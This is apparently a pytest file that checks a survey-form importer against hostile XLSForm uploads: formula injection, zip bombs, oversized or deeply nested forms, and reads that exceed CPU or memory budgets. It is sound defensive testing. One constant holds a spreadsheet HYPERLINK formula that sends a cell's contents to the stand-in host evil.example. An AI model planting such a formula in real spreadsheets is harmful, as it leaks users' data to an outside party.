"""XLSForm files as an attacker would send them: formulas that must come back inert, and
forms too large or too deep, refused quickly and before pyxform reads them."""

from __future__ import annotations

import io
import time
import zipfile

import openpyxl
import pytest

from bahali.assessments import xlsform
from bahali.assessments.tests.test_engine import HEADER, _workbook
from bahali.core.spreadsheets import FORMULA_STARTS

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def _with_text_formula() -> bytes:
    """A form whose label is the text of a formula (stored as text, as a crafted file has it)."""
    book = openpyxl.load_workbook(
        io.BytesIO(
            _workbook([HEADER, ["select_one yn", "armed", "x", "yes", "", "", ""]]),
        )
    )
    cell = book["survey"]["C2"]
    cell.value = LINK
    cell.data_type = "s"
    choice = book["choices"]["C2"]
    choice.value = "@SUM(1+1)"
    choice.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_formula_text_imported_goes_out_inert_and_comes_back_the_same():
    imported = xlsform.read_xlsform(_with_text_formula())
    [item] = [i for s in imported.definition["sections"] for i in s["items"]]
    assert item["label"]["en"] == LINK
    exported = xlsform.write_xlsform(imported.definition, code="ours", kind="needs", version=1)
    book = openpyxl.load_workbook(io.BytesIO(exported))
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), cell.value
                    seen.append(cell.value)
    assert "'" + LINK in seen and "'@SUM(1+1)" in seen
    assert xlsform.read_xlsform(exported).definition == imported.definition


def _many_questions(count: int) -> bytes:
    book = openpyxl.Workbook(write_only=True)
    survey = book.create_sheet("survey")
    survey.append(HEADER)
    for number in range(count):
        survey.append(["text", f"q{number}", f"Question {number}", "", "", "", ""])
    settings = book.create_sheet("settings")
    settings.append(["form_title", "form_id", "bahali_kind"])
    settings.append(["Big", "big", "needs"])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_a_form_of_twenty_thousand_questions_is_refused_quickly():
    data = _many_questions(20_000)
    started = time.perf_counter()
    with pytest.raises(xlsform.XLSFormRefused) as refused:
        xlsform.read_xlsform(data)
    elapsed = time.perf_counter() - started
    assert "400" in str(refused.value.problems[0])
    assert elapsed < 2.0, elapsed  # about 0.2 s; pyxform took 15 s on it


def test_a_form_at_the_limit_is_read():
    imported = xlsform.read_xlsform(_many_questions(xlsform.MAX_QUESTIONS))
    assert sum(len(s["items"]) for s in imported.definition["sections"]) == xlsform.MAX_QUESTIONS


def test_nested_groups_are_refused_before_parsing():
    data = _workbook(
        [
            HEADER,
            ["begin_group", "a", "A", "", "", "", ""],
            ["begin_group", "b", "B", "", "", "", ""],
            ["text", "t", "T", "", "", "", ""],
            ["end_group", "", "", "", "", "", ""],
            ["end_group", "", "", "", "", "", ""],
        ]
    )
    with pytest.raises(xlsform.XLSFormRefused) as refused:
        xlsform.read_xlsform(data)
    assert (refused.value.problems[0].sheet, refused.value.problems[0].row) == ("survey", 3)


def test_too_many_columns_are_refused():
    wide = HEADER + [f"extra{n}" for n in range(xlsform.MAX_COLUMNS)]
    data = _workbook([wide, ["text", "t", "T", *[""] * (len(wide) - 4), "x"]])
    with pytest.raises(xlsform.XLSFormRefused) as refused:
        xlsform.read_xlsform(data)
    assert "columns" in str(refused.value.problems[0])


def test_a_file_that_unpacks_too_large_is_refused_unopened():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("xl/worksheets/sheet1.xml", b"\0" * (xlsform.MAX_UNPACKED_BYTES + 1))
    assert len(buffer.getvalue()) < xlsform.MAX_BYTES
    with pytest.raises(xlsform.XLSFormRefused) as refused:
        xlsform.read_xlsform(buffer.getvalue())
    assert "unpacks" in str(refused.value.problems[0])


def test_a_file_too_large_is_refused():
    with pytest.raises(xlsform.XLSFormRefused) as refused:
        xlsform.read_xlsform(b"PK" + b"\0" * xlsform.MAX_BYTES)
    assert "kB" in str(refused.value.problems[0])


# --- the budget of an uploaded workbook (read in a child process) ---------------------


def test_an_upload_within_the_limits_reads_as_in_process():
    data = _many_questions(40)
    assert xlsform.read_uploaded_xlsform(data) == xlsform.read_xlsform(data)


def test_an_uploads_refusal_comes_back_with_its_sheet_row_and_reason():
    data = _workbook([HEADER, ["begin_group", "a", "A", "", "", "", ""]] * 2)
    with pytest.raises(xlsform.XLSFormRefused) as in_process:
        xlsform.read_xlsform(data)
    with pytest.raises(xlsform.XLSFormRefused) as uploaded:
        xlsform.read_uploaded_xlsform(data)
    assert uploaded.value.problems == in_process.value.problems


def _spin(data):
    while True:  # a form that never finishes reading
        pass


def _hoard(data):
    kept = []
    while True:  # a form that keeps taking memory
        kept.append(bytearray(64 * 1024 * 1024))


@pytest.mark.parametrize("reader", [_spin, _hoard])
def test_an_upload_past_its_time_or_memory_budget_is_refused(monkeypatch, settings, reader):
    settings.BAHALI_XLSFORM_CPU_SECONDS = 1
    settings.BAHALI_XLSFORM_MEMORY_MB = 64
    monkeypatch.setattr(xlsform, "read_xlsform", reader)  # the child is forked: it reads so
    started = time.perf_counter()
    with pytest.raises(xlsform.XLSFormRefused) as refused:
        xlsform.read_uploaded_xlsform(_many_questions(3))
    assert "more time or memory than an instrument may" in str(refused.value.problems[0])
    assert time.perf_counter() - started < 10  # the budget, not the test's patience
